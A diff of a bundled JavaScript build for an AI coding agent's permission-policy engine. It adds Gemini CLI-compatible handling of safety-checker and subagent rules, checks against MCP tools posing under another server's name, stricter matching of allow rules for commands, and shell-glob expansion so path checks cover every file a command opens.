+        checkChecker(entry, path, report, warn);
+    });
+}
+/** A rule's own `safety_checker` table (`[rule.safety_checker]`). */
+function readSafetyChecker(context, key, warn) {
+    const value = context.table[key];
+    const path = [...context.path, key];
+    if (!isTable(value)) {
+        context.report(path, `${key} must be a table, but is ${describeValue(value)}`);
+        return;
+    }
+    checkChecker(value, path, (at, message) => {
+        context.report(at, message);
+    }, warn);
+}
+/** The `checker` table (or the table itself, when it names the checker directly). */
+function checkChecker(table, path, report, warn) {
+    const checker = isTable(table.checker) ? table.checker : table;
+    const at = isTable(table.checker) ? [...path, 'checker'] : path;
+    const { type, name } = checker;
+    if (typeof type !== 'string' || !CHECKER_TYPES.includes(type)) {
+        report(at, `a safety checker needs type = ${quoteChoices(CHECKER_TYPES)}`);
+        return;
+    }
+    if (typeof name !== 'string' || name.trim() === '') {
+        report(at, 'a safety checker needs a name (the checker to run)');
+        return;
+    }
+    if (type === 'in-process' && !IN_PROCESS_CHECKERS.includes(name)) {
+        report(at, `the in-process safety checker must be ${quoteChoices(IN_PROCESS_CHECKERS)}, but is ${JSON.stringify(name)}`);
+        return;
+    }
+    warn(at, notEnforced(type, name));
+}
+function notEnforced(type, name) {
+    if (type === 'in-process' && name === 'allowed-path') {
+        return 'the safety checker "allowed-path" is not run here; what it checks, that paths stay inside the workspace, is checked here anyway for every tool and for the files shell commands name';
+    }
+    return `the ${type} safety checker "${name}" is not run here (this agent runs no safety checkers); the policy's rules alone decide the calls it would have checked`;
+}
+
 ;// CONCATENATED MODULE: ./src/policy/rule-tables.ts
+
 
 
 
@@ -10606,7 +11819,11 @@ const RULE_ALIASES = {
     deny_message: 'denyMessage',
     excluded_paths: 'excludedPaths',
 };
-function readRuleTables(value, report) {
+/**
+ * `[[rule]]` tables. `warn` gets what the Gemini CLI accepts but this agent does not act on: keys
+ * it ignores, `subagent`, a rule's own `safety_checker`.
+ */
+function readRuleTables(value, report, warn) {
     if (!Array.isArray(value)) {
         report(['rule'], `rules must be written as [[rule]] tables (an array of tables), but rule is ${describeValue(value)}`);
         return [];
@@ -10617,11 +11834,11 @@ function readRuleTables(value, report) {
             report(path, `each rule must be a table, but rule ${index + 1} is ${describeValue(entry)}`);
             return { path };
         }
-        return { path, body: readRule({ table: entry, path, report }) };
+        return { path, body: readRule({ table: entry, path, report }, warn) };
     });
 }
 /** One `[[rule]]` table; `undefined` when it has problems (they are reported). */
-function readRule(context) {
+function readRule(context, warn) {
     let problems = 0;
     const report = (path, message) => {
         problems += 1;
@@ -10630,19 +11847,30 @@ function readRule(context) {
     const rule = { ...context, report };
     const at = (key) => [...context.path, key];
     checkKeys(rule, {
-        known: RULE_FIELDS,
+        known: [...RULE_FIELDS, 'subagent', SAFETY_CHECKER_KEY],
         aliases: RULE_ALIASES,
         where: '[[rule]]',
         explain: (key) => {
-            if (key === 'subagent') {
-                return 'subagent is not supported: this agent runs no subagents, so the rule would never apply; remove it';
-            }
             if (key === 'mode') {
                 return 'mode belongs to [tools.<name>] tables; in a [[rule]] table write decision = "allow", "deny" or "ask_user"';
             }
             return undefined;
         },
+        ignoreUnknown: (path, key) => {
+            warn(path, `the field "${key}" is not a rule condition; it is ignored, as the Gemini CLI ignores it`);
+        },
     });
+    const subagent = readString(rule, 'subagent', { nonEmpty: true });
+    if (subagent !== undefined) {
+        warn(at('subagent'), `this rule only applies to calls made by the subagent "${subagent}"; this agent runs no subagents, so it never applies`);
+    }
+    if (hasField(rule, SAFETY_CHECKER_KEY)) {
+        readSafetyChecker({
+            table: { [SAFETY_CHECKER_KEY]: rule.table[SAFETY_CHECKER_KEY] },
+            path: context.path,
+            report,
+        }, SAFETY_CHECKER_KEY, warn);
+    }
     const toolNames = readStringList(rule, 'toolName', {
         noun: 'tool name',
         emptyMessage: 'toolName must list at least one tool; use "*" to match every tool',
@@ -10746,6 +11974,7 @@ function readRule(context) {
         ...(maxCalls !== undefined ? { maxCalls } : {}),
         ...(runModes ? { runModes } : {}),
         ...(trust ? { trust } : {}),
+        ...(subagent !== undefined ? { subagent } : {}),
     };
 }
 function readRegex(context, key) {
@@ -11178,9 +12407,10 @@ function readToolsTable(context, name, where) {
  * - the spec's `[tools.<name>]` tables (`mode`, `excluded_paths`), each one rule at the fixed
  *   priority {@link TOOLS_TABLE_PRIORITY}.
  *
- * Anything else is an error: every problem of the file is collected and thrown as one
- * {@link PolicyFileError}, each with the file, line and column of the key (or table) at fault.
- * Pure: no I/O.
+ * The Gemini CLI's `[[safety_checker]]` tables, `subagent` rules and keys it ignores in a
+ * `[[rule]]` load with a warning saying what they mean here. Anything else is an error: every
+ * problem of the file is collected and thrown as one {@link PolicyFileError}, each with the file,
+ * line and column of the key (or table) at fault. Pure: no I/O.
  */
 
 
@@ -11191,7 +12421,8 @@ function readToolsTable(context, name, where) {
 
 
 
-const TOP_LEVEL_KEYS = ['rule', 'tools'];
+
+const TOP_LEVEL_KEYS = ['rule', 'tools', SAFETY_CHECKER_KEY];
 /** Parses one policy file; throws a {@link PolicyFileError} listing every problem in it. */
 function parsePolicy(text, source) {
     const { rules, problems } = checkPolicy(text, source);
@@ -11210,12 +12441,20 @@ function checkPolicy(text, source) {
             throw error;
         const reason = (error.message.split('\n')[0] ?? '').replace(/^Invalid TOML document: /, '');
         const problem = { file: source.file, line: error.line, column: error.column };
-        return { rules: [], problems: [{ ...problem, message: `TOML syntax error: ${reason}` }] };
+        return {
+            rules: [],
+            problems: [{ ...problem, message: `TOML syntax error: ${reason}` }],
+            warnings: [],
+        };
     }
     const positions = scanTomlPositions(text);
     const problems = [];
     const report = (path, message) => {
         problems.push({ file: source.file, ...positions.locate(path), message });
+    };
+    const warnings = [];
+    const warn = (path, message) => {
+        warnings.push({ file: source.file, ...positions.locate(path), message });
     };
     const drafts = [];
     const add = (path, body) => {
@@ -11224,7 +12463,7 @@ function checkPolicy(text, source) {
     };
     for (const [key, value] of Object.entries(document)) {
         if (key === 'rule') {
-            readRuleTables(value, report).forEach(({ path, body }) => {
+            readRuleTables(value, report, warn).forEach(({ path, body }) => {
                 add(path, body);
             });
         }
@@ -11233,9 +12472,8 @@ function checkPolicy(text, source) {
                 add(path, body);
             });
         }
-        else if (key === 'safety_checker') {
-            report([key], 'safety_checker tables are not supported; shell commands and paths are checked by the ' +
-                'policy itself (see docs/policy.md)');
+        else if (key === SAFETY_CHECKER_KEY) {
+            readSafetyCheckerTables(value, report, warn);
         }
         else {
             report([key], `unknown top-level key "${key}"; a policy file holds [[rule]] tables and [tools.<name>] ` +
@@ -11243,6 +12481,7 @@ function checkPolicy(text, source) {
         }
     }
     problems.sort((a, b) => a.line - b.line || a.column - b.column);
+    warnings.sort((a, b) => a.line - b.line || a.column - b.column);
     drafts.sort((a, b) => a.at.line - b.at.line || a.at.column - b.at.column);
     const rules = drafts.map(({ at, body }, index) => ({
         ...body,
@@ -11250,13 +12489,13 @@ function checkPolicy(text, source) {
         effectivePriority: policy_types/* TIER_BASE */.HA[source.tier] + body.priority / 1000,
         source: { file: source.file, line: at.line, column: at.column, tier: source.tier },
     }));
-    return { rules, problems };
+    return { rules, problems, warnings };
 }
 
 
 /***/ }),
 
-/***/ 2468:
+/***/ 52468:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -11264,7 +12503,7 @@ function checkPolicy(text, source) {
 /* harmony export */   u3: () => (/* binding */ createPolicyConfirmer)
 /* harmony export */ });
 /* unused harmony exports askUserDenial, policyCall, summarizeSubcommands */
-/* harmony import */ var _rule_matching_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7496);
+/* harmony import */ var _rule_matching_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(67496);
 
 /** What the model reads when the policy would have asked a person. */
 function askUserDenial(toolName, reason) {
@@ -11315,7 +12554,7 @@ function withSubcommands(verdict) {
 }
 /** `Sub-commands: `git status` allow (policy.toml:3:1); `ls` allow (policy.toml:9:1).` */
 function summarizeSubcommands(subcommands) {
-    const parts = subcommands.map((sub) => `\`${sub.text}\` ${sub.decision} (${sub.rule ? (0,_rule_matching_js__WEBPACK_IMPORTED_MODULE_0__/* .ruleLocation */ .eK)(sub.rule) : 'no rule'})`);
+    const parts = subcommands.map((sub) => `\`${sub.text}\` ${sub.decision} (${sub.decidedBy ?? (sub.rule ? (0,_rule_matching_js__WEBPACK_IMPORTED_MODULE_0__/* .ruleLocation */ .eK)(sub.rule) : 'no rule')})`);
     return `Sub-commands: ${parts.join('; ')}.`;
 }
 
@@ -11326,10 +12565,10 @@ function summarizeSubcommands(subcommands) {
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   V: () => (/* binding */ formatProblem),
 /* harmony export */   z: () => (/* binding */ PolicyFileError)
 /* harmony export */ });
-/* unused harmony export formatProblem */
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
 /**
  * Everything wrong with one or more policy files, reported at once: a maintainer fixing a policy
  * in CI should not need one run per typo. Each problem is one line `file:line:column: message`.
@@ -11356,7 +12595,7 @@ function formatProblem(problem) {
 
 /***/ }),
 
-/***/ 5578:
+/***/ 45578:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -11376,16 +12615,15 @@ const TIER_BASE = {
 
 /***/ }),
 
-/***/ 7496:
+/***/ 67496:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   JB: () => (/* binding */ stableStringify),
 /* harmony export */   RF: () => (/* binding */ matchesRun),
 /* harmony export */   ST: () => (/* binding */ describeDecider),
 /* harmony export */   Wn: () => (/* binding */ SHELL_TOOL_NAME),
 /* harmony export */   Xg: () => (/* binding */ CallCounter),
-/* harmony export */   eK: () => (/* reexport safe */ _describe_rule_js__WEBPACK_IMPORTED_MODULE_2__.eK),
+/* harmony export */   eK: () => (/* reexport safe */ _describe_rule_js__WEBPACK_IMPORTED_MODULE_3__.eK),
 /* harmony export */   f0: () => (/* binding */ matchesCommand),
 /* harmony export */   f3: () => (/* binding */ excludedPathHit),
 /* harmony export */   gi: () => (/* binding */ hasCommandConditions),
@@ -11395,13 +12633,14 @@ const TIER_BASE = {
 /* harmony export */   y4: () => (/* binding */ matchesTool)
 /* harmony export */ });
 /* unused harmony exports APPROVAL_MODE, matchesAnnotations, matchesArgs, expandHome, matchesPaths, prefixMatches */
-/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6760);
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
 /* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(7975);
+/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(57975);
 /* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_1__);
-/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(4006);
-/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_3___default = /*#__PURE__*/__webpack_require__.n(picomatch__WEBPACK_IMPORTED_MODULE_3__);
-/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(4996);
+/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(14006);
+/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_4___default = /*#__PURE__*/__webpack_require__.n(picomatch__WEBPACK_IMPORTED_MODULE_4__);
+/* harmony import */ var _argument_text_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5535);
+/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(74996);
 /**
  * Whether one policy rule's conditions hold for a call. Every condition a rule has must hold for
  * it to match; a condition the rule does not have always holds. The engine decides what a match
@@ -11410,6 +12649,7 @@ const TIER_BASE = {
  * Pure: no I/O. Paths are compared as text (the workspace has already resolved symlinks for the
  * locations tools report).
  */
+
 
 
 
@@ -11427,38 +12667,7 @@ const MCP_PREFIX = 'mcp_';
 // ---- locations and sources ------------------------------------------------------------------
 /** `file:line:column (tier, priority N.NNN)`: what the transcript shows as `decided_by`. */
 function describeDecider(rule) {
-    return rule ? (0,_describe_rule_js__WEBPACK_IMPORTED_MODULE_2__/* .ruleOrigin */ .fB)(rule) : 'default (no rule matched)';
-}
-/**
- * Arguments as JSON with object keys sorted at every depth and no whitespace, so a pattern sees
- * the same text whatever order the model sent the keys in. `undefined` members are left out (as
- * `JSON.stringify` does); a cycle (impossible for parsed JSON) is written as `"[Circular]"`.
- */
-function stableStringify(value) {
-    const ancestors = new Set();
-    const write = (current) => {
-        if (current === undefined || typeof current === 'function')
-            return 'null';
-        if (current === null || typeof current !== 'object')
-            return JSON.stringify(current);
-        if (ancestors.has(current))
-            return '"[Circular]"';
-        ancestors.add(current);
-        try {
-            if (Array.isArray(current))
-                return `[${current.map((item) => write(item)).join(',')}]`;
-            const record = current;
-            const members = Object.keys(record)
-                .sort()
-                .filter((key) => record[key] !== undefined && typeof record[key] !== 'function')
-                .map((key) => `${JSON.stringify(key)}:${write(record[key])}`);
-            return `{${members.join(',')}}`;
-        }
-        finally {
-            ancestors.delete(current);
-        }
-    };
-    return write(value);
+    return rule ? (0,_describe_rule_js__WEBPACK_IMPORTED_MODULE_3__/* .ruleOrigin */ .fB)(rule) : 'default (no rule matched)';
 }
 /**
  * The forms of each path argument. Tools report paths relative to the workspace when they lie
@@ -11490,16 +12699,31 @@ function shortMcpName(tool) {
     return tool.name;
 }
 /**
+ * Whether an MCP tool's name is not dressed as another server's tool: a name in the qualified
+ * forms (`mcp_<server>_…`, `<server>__…`) must carry its own server's name. A server-wide allow
+ * (`mcp_<server>_*`, or `mcpName` with every tool) covers only such names, as the Gemini CLI's
+ * does, where every MCP tool's name is `mcp_<server>_<tool>`.
+ */
+function carriesOwnServerName(tool) {
+    if (tool.name.startsWith(MCP_PREFIX)) {
+        return tool.name.startsWith(`${MCP_PREFIX}${tool.serverName}_`);
+    }
+    if (tool.name.includes('__'))
+        return tool.name.startsWith(`${tool.serverName}__`);
+    return true;
+}
+/**
  * Whether one `toolName` entry names the tool. `*` is every tool; `mcp_*` every MCP tool;
- * `mcp_<server>_*` every tool of that server. An MCP tool answers to the name it is registered
- * under and to its qualified names (`mcp_<server>_<tool>`, `<server>__<tool>`); to the server's
- * own name for it (registered as `mcp_github_read_file`, called `read_file` by the server) only
- * when the rule pins the server with `mcpName` — otherwise an allow for the built-in `read_file`
- * would also allow that server's tool.
+ * `mcp_<server>_*` every tool of that server (for an allow, only names that carry the server's
+ * own; see `carriesOwnServerName`). An MCP tool answers to the name it is registered under and to
+ * its qualified names (`mcp_<server>_<tool>`, `<server>__<tool>`); to the server's own name for it
+ * (registered as `mcp_github_read_file`, called `read_file` by the server) only when the rule pins
+ * the server with `mcpName` — otherwise an allow for the built-in `read_file` would also allow
+ * that server's tool.
  */
 function nameEntryMatches(entry, tool, rule, aliases) {
     if (entry === '*')
-        return true;
+        return serverWideMatches(rule, tool);
     const { serverName } = tool;
     if (serverName === undefined) {
         return entry === tool.name || aliases[entry] === tool.name;
@@ -11507,7 +12731,9 @@ function nameEntryMatches(entry, tool, rule, aliases) {
     if (entry === `${MCP_PREFIX}*`)
         return true;
     if (entry.startsWith(MCP_PREFIX) && entry.endsWith('_*')) {
-        return entry.slice(MCP_PREFIX.length, -2) === serverName;
+        if (entry.slice(MCP_PREFIX.length, -2) !== serverName)
+            return false;
+        return rule.decision !== 'allow' || carriesOwnServerName({ ...tool, serverName });
     }
     const short = shortMcpName({ ...tool, serverName });
     if (entry === tool.name)
@@ -11516,6 +12742,18 @@ function nameEntryMatches(entry, tool, rule, aliases) {
         return true;
     }
     return rule.mcpName === serverName && entry === short;
+}
+/**
+ * Every tool of the rule's scope. With `mcpName = "<server>"` that is the Gemini CLI's
+ * `mcp_<server>_*`, so an allow covers only names that carry the server's own; `mcpName = "*"`
+ * (or none) has no such condition.
+ */
+function serverWideMatches(rule, tool) {
+    if (rule.mcpName === undefined || rule.mcpName === '*' || rule.decision !== 'allow')
+        return true;
+    if (tool.serverName === undefined)
+        return true;
+    return carriesOwnServerName({ ...tool, serverName: tool.serverName });
 }
 /** `toolNames` and `mcpName` (`mcpName = "*"`: any MCP tool). */
 function matchesTool(rule, tool, aliases = {}) {
@@ -11526,7 +12764,7 @@ function matchesTool(rule, tool, aliases = {}) {
             return false;
     }
     if (rule.toolNames === undefined)
-        return true;
+        return serverWideMatches(rule, tool);
     return rule.toolNames.some((entry) => nameEntryMatches(entry, tool, rule, aliases));
 }
 /**
@@ -11539,6 +12777,9 @@ function matchesRun(rule, run) {
             return false;
     }
     if (rule.interactive === true)
+        return false;
+    // No call here is made by a subagent.
+    if (rule.subagent !== undefined)
         return false;
     if (rule.runModes && !rule.runModes.includes(run.runMode))
         return false;
@@ -11554,12 +12795,17 @@ function matchesAnnotations(rule, annotations) {
         return false;
     return Object.entries(rule.toolAnnotations).every(([key, value]) => (0,node_util__WEBPACK_IMPORTED_MODULE_1__.isDeepStrictEqual)(annotations[key], value));
 }
-/** `argsPattern`: searched (not anchored) in the stable JSON, as the Gemini CLI does. */
-function matchesArgs(rule, argsJson) {
+/**
+ * `argsPattern`: searched (not anchored) in the stable JSON, as the Gemini CLI does — in each of
+ * the call's texts (ours, and the Gemini CLI's names and markers), matching when any holds it. A
+ * deny written for either spelling therefore denies.
+ */
+function matchesArgs(rule, argsTexts) {
     if (!rule.argsPattern)
         return true;
     // A global or sticky regex remembers `lastIndex` between calls; a fresh one never does.
-    return withoutState(rule.argsPattern).test(argsJson);
+    const pattern = withoutState(rule.argsPattern);
+    return argsTexts.some((text) => pattern.test(text));
 }
 // ---- paths ----------------------------------------------------------------------------------
 const matcherCache = new Map();
@@ -11567,7 +12813,7 @@ function globMatcher(pattern, options) {
     const key = `${options.nocase ? 'i' : 's'}:${pattern}`;
     let matcher = matcherCache.get(key);
     if (!matcher) {
-        matcher = picomatch__WEBPACK_IMPORTED_MODULE_3___default()(pattern, { dot: true, nocase: options.nocase });
+        matcher = picomatch__WEBPACK_IMPORTED_MODULE_4___default()(pattern, { dot: true, nocase: options.nocase });
         matcherCache.set(key, matcher);
     }
     return matcher;
@@ -11648,18 +12894,58 @@ function anchored(regex) {
 function hasCommandConditions(rule) {
     return rule.commandPrefixes !== undefined || rule.commandRegex !== undefined;
 }
-/**
- * `commandPrefix` / `commandRegex` against one sub-command's text. The regex must match from the
- * start of the text (a rule's command conditions describe how a command begins, as in the Gemini
- * CLI where they match right after `"command":"`). Both present: both must hold.
- */
-function matchesCommand(rule, text) {
+/** Our reading: the prefix on a word boundary, the regex from the start of the text. */
+function matchesOurReading(rule, text) {
     if (rule.commandPrefixes && !rule.commandPrefixes.some((prefix) => prefixMatches(prefix, text))) {
         return false;
     }
     if (rule.commandRegex && !anchored(rule.commandRegex).start.test(text))
         return false;
     return true;
+}
+/** The Gemini CLI's escaping of a literal inside a pattern (its policy/utils.ts, escapeRegex). */
+function escapeGeminiLiteral(text) {
+    return text.replace(/[-[\]{}()*+?.,\\^$|#\s"]/gu, '\\$&');
+}
+const geminiPatternCache = new WeakMap();
+/**
+ * The patterns the Gemini CLI makes of a rule's command conditions (its policy/utils.ts,
+ * buildArgsPatterns): `"command":"<prefix>` followed by whitespace or a quote, and
+ * `"command":"<regex>`, both searched in its JSON arguments.
+ */
+function geminiPatterns(rule) {
+    let patterns = geminiPatternCache.get(rule);
+    if (patterns === undefined) {
+        patterns = [];
+        for (const prefix of rule.commandPrefixes ?? []) {
+            const open = JSON.stringify(prefix).slice(0, -1);
+            patterns.push(new RegExp(`${escapeGeminiLiteral(`"command":${open}`)}(?:[\\s"]|\\\\")`));
+        }
+        if (rule.commandRegex)
+            patterns.push(new RegExp(`"command":"${rule.commandRegex.source}`));
+        geminiPatternCache.set(rule, patterns);
+    }
+    return patterns;
+}
+function matchesGeminiReading(rule, geminiText) {
+    return geminiPatterns(rule).some((pattern) => pattern.test(geminiText));
+}
+/**
+ * `commandPrefix` / `commandRegex` against a command (or one sub-command). Two readings exist:
+ * ours, on the command's own text, where the regex must match from its start; and the Gemini
+ * CLI's, where the patterns are searched in its JSON arguments right after `"command":"` (so there
+ * `^` never matches, and `$` only at the end of the whole JSON). A policy file may have been
+ * written for either, so an allow holds only when both readings match — it never allows what the
+ * Gemini CLI would refuse — and a deny or ask_user holds when either does.
+ */
+function matchesCommand(rule, command) {
+    if (!hasCommandConditions(rule))
+        return true;
+    const ours = matchesOurReading(rule, command.text);
+    if (rule.decision !== 'allow' && ours)
+        return true;
+    const theirs = matchesGeminiReading(rule, command.geminiText);
+    return rule.decision === 'allow' ? ours && theirs : theirs;
 }
 /**
  * Whether the rule names this exact sub-command: a `commandPrefix` equal to the whole text, or a
@@ -11697,7 +12983,7 @@ function matchesSubject(rule, subject, options) {
     return (matchesTool(rule, subject.tool, options.aliases) &&
         matchesRun(rule, options.context) &&
         matchesAnnotations(rule, subject.annotations) &&
-        matchesArgs(rule, subject.argsJson) &&
+        matchesArgs(rule, subject.argsTexts) &&
         matchesPaths(rule, subject.paths, options.homeDir) &&
         options.counter.hasRoom(rule));
 }
@@ -11710,13 +12996,13 @@ function withoutState(regex) {
 
 /***/ }),
 
-/***/ 3020:
+/***/ 93020:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   L: () => (/* binding */ SessionStatsCollector)
 /* harmony export */ });
-/* harmony import */ var _agent_events_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(944);
+/* harmony import */ var _agent_events_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(60944);
 
 const noDecisions = () => ({ accept: 0, reject: 0, modify: 0, auto_accept: 0 });
 /** Consumes AgentEvents; read `metrics()` / `streamStats()` at any time. */
@@ -11851,7 +13137,7 @@ class SessionStatsCollector {
 
 /***/ }),
 
-/***/ 7589:
+/***/ 1618:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -11874,24 +13160,24 @@ const denyAllConfirmer = {
 };
 
 // EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __webpack_require__(7598);
+var external_node_crypto_ = __webpack_require__(77598);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
-var node = __webpack_require__(7964);
+var node = __webpack_require__(67964);
 // EXTERNAL MODULE: ./src/model/errors.ts
-var errors = __webpack_require__(7206);
+var errors = __webpack_require__(87206);
 // EXTERNAL MODULE: ./src/model/model-choice.ts
-var model_choice = __webpack_require__(1106);
+var model_choice = __webpack_require__(11106);
 // EXTERNAL MODULE: ./src/model/model-table.ts + 1 modules
-var model_table = __webpack_require__(109);
+var model_table = __webpack_require__(90109);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var platform_errors = __webpack_require__(6316);
+var platform_errors = __webpack_require__(46316);
 // EXTERNAL MODULE: ./src/platform/logger.ts
-var platform_logger = __webpack_require__(3255);
+var platform_logger = __webpack_require__(63255);
 // EXTERNAL MODULE: ./src/agent/budgets.ts
-var budgets = __webpack_require__(4407);
+var budgets = __webpack_require__(44407);
 ;// CONCATENATED MODULE: ./src/agent/history.ts
 /** A part with nothing in it (streams sometimes send `{}` or `{text: ""}` as a keep-alive). */
 function isEmptyPart(part) {
@@ -12397,9 +13683,9 @@ function summaryText(response) {
 }
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __webpack_require__(3024);
+var external_node_fs_ = __webpack_require__(73024);
 // EXTERNAL MODULE: external "node:os"
-var external_node_os_ = __webpack_require__(8161);
+var external_node_os_ = __webpack_require__(48161);
 var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
 ;// CONCATENATED MODULE: ./src/agent/context-files.ts
 /**
@@ -12574,7 +13860,7 @@ async function realpathOrUndefined(dir) {
 }
 
 // EXTERNAL MODULE: external "node:child_process"
-var external_node_child_process_ = __webpack_require__(1421);
+var external_node_child_process_ = __webpack_require__(31421);
 ;// CONCATENATED MODULE: ./src/agent/environment-context.ts
 /**
  * The first user message of every session: today's date, the platform, the workspace and its
@@ -12750,7 +14036,7 @@ function initialHistory(environmentText) {
 }
 
 // EXTERNAL MODULE: ./src/agent/events.ts
-var events = __webpack_require__(944);
+var events = __webpack_require__(60944);
 ;// CONCATENATED MODULE: ./src/agent/loop-detector.ts
 /**
  * Notices when the model is stuck: the same tool call again and again, a short cycle of calls
@@ -12921,7 +14207,7 @@ function abbreviate(text, max) {
 }
 
 // EXTERNAL MODULE: ./src/agent/scheduler.ts
-var scheduler = __webpack_require__(3564);
+var scheduler = __webpack_require__(53564);
 ;// CONCATENATED MODULE: ./src/agent/system-prompt.ts
 
 /** The core prompt, without context files. */
@@ -13430,15 +14716,80 @@ function describeError(error) {
 }
 
 // EXTERNAL MODULE: ./src/policy/policy-confirmer.ts
-var policy_confirmer = __webpack_require__(2468);
-// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 29 modules
-var builtin_tools = __webpack_require__(5099);
+var policy_confirmer = __webpack_require__(52468);
+// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 28 modules
+var builtin_tools = __webpack_require__(15560);
 // EXTERNAL MODULE: ./src/tools/registry.ts
-var tools_registry = __webpack_require__(4988);
+var tools_registry = __webpack_require__(64988);
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __webpack_require__(14006);
+var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
+;// CONCATENATED MODULE: ./src/tools/shell-glob.ts
+/**
+ * What bash makes of a glob in a command's arguments, found before the command runs, so the
+ * policy can check every path it will open (`cat *.txt` where one `.txt` is a symlink out of the
+ * workspace). Bash's defaults for `bash -c`: `*`, `?` and `[…]` match within one path segment,
+ * a leading `.` only when the pattern's segment starts with one (and then `.` and `..` too, as
+ * in bash before 5.2), no `**` recursion, no extended globs, and a pattern that matches nothing
+ * is passed on as written.
+ */
+
+
+/** More matches than this and the command is refused rather than checked path by path. */
+const MAX_GLOB_MATCHES = 1000;
+/** Directory entries read while expanding; beyond this the pattern is not expanded. */
+const MAX_ENTRIES_READ = 20_000;
+const GLOB_CHARACTERS = /[*?[]/u;
+/**
+ * The paths an absolute pattern matches, each written as the kernel will look it up (segments
+ * joined, `..` kept), or undefined when there are more than `MAX_GLOB_MATCHES` or expanding would
+ * read too much. A pattern without matches gives its own text: bash passes it on unchanged.
+ */
+function expandShellGlob(absolutePattern) {
+    const segments = absolutePattern.split('/').filter((segment) => segment !== '');
+    let current = ['/'];
+    let entriesRead = 0;
+    for (const segment of segments) {
+        const next = [];
+        for (const directory of current) {
+            if (!GLOB_CHARACTERS.test(segment)) {
+                next.push(join(directory, segment));
+                continue;
+            }
+            const names = listDirectory(directory);
+            entriesRead += names.length;
+            if (entriesRead > MAX_ENTRIES_READ)
+                return undefined;
+            const hidden = segment.startsWith('.');
+            const candidates = hidden ? ['.', '..', ...names] : names;
+            const matches = picomatch_default()(segment, { dot: hidden, nobrace: true, noextglob: true });
+            for (const name of candidates)
+                if (matches(name))
+                    next.push(join(directory, name));
+        }
+        if (next.length > MAX_GLOB_MATCHES)
+            return undefined;
+        current = next;
+    }
+    return current.length === 0 ? [absolutePattern] : current;
+}
+function join(directory, name) {
+    return directory.endsWith('/') ? `${directory}${name}` : `${directory}/${name}`;
+}
+function listDirectory(directory) {
+    try {
+        return (0,external_node_fs_.readdirSync)(directory);
+    }
+    catch {
+        // Not a directory, missing, or not readable: bash finds nothing there either.
+        return [];
+    }
+}
+
 // EXTERNAL MODULE: ./src/tools/tool-processes.ts
-var tool_processes = __webpack_require__(161);
+var tool_processes = __webpack_require__(90161);
 // EXTERNAL MODULE: ./src/platform/redaction.ts
-var redaction = __webpack_require__(3178);
+var redaction = __webpack_require__(63178);
 ;// CONCATENATED MODULE: ./src/tools/discovered/declarations.ts
 /**
  * What a discovery command prints: a JSON array whose items are function declarations
@@ -13559,11 +14910,11 @@ function describeJson(value) {
 }
 
 // EXTERNAL MODULE: ./src/tools/shell-output.ts
-var shell_output = __webpack_require__(3819);
+var shell_output = __webpack_require__(63819);
 // EXTERNAL MODULE: ./src/tools/tool-types.ts
-var tool_types = __webpack_require__(9285);
+var tool_types = __webpack_require__(29285);
 // EXTERNAL MODULE: ./src/platform/process-group.ts
-var process_group = __webpack_require__(192);
+var process_group = __webpack_require__(70192);
 ;// CONCATENATED MODULE: ./src/tools/discovered/tool-command.ts
 
 
@@ -14085,10 +15436,11 @@ async function loadExtensionTools(options) {
 }
 
 // EXTERNAL MODULE: ./src/tools/tool-selection.ts
-var tool_selection = __webpack_require__(7146);
+var tool_selection = __webpack_require__(87146);
 // EXTERNAL MODULE: ./src/tools/workspace.ts + 5 modules
